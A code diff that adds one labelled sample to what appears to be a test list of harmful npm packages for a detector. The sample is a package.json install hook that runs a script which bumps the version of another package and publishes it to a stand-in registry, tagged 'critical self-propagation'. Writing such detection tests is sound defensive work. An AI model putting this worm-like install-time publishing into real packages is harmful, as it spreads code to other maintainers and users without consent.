@@ -77,6 +77,16 @@ const HARMFUL: [string, string, Record<string, string>][] = [
     },
   ],
   [
+    'publishing through a helper that adds words of its own',
+    'critical self-propagation',
+    {
+      'package.json': install('node after.js'),
+      'after.js': `const { execFileSync } = require('child_process');
+        const npm = (args, cwd) => execFileSync('npm', [...args, '--registry', 'https://registry.example/'], { cwd });
+        npm(['version', 'patch'], '/x'); npm(['publish', '--ignore-scripts'], '/x');`,
+    },
+  ],
+  [
     'publishing unless the other package has an install script',
     'critical self-propagation',
     {
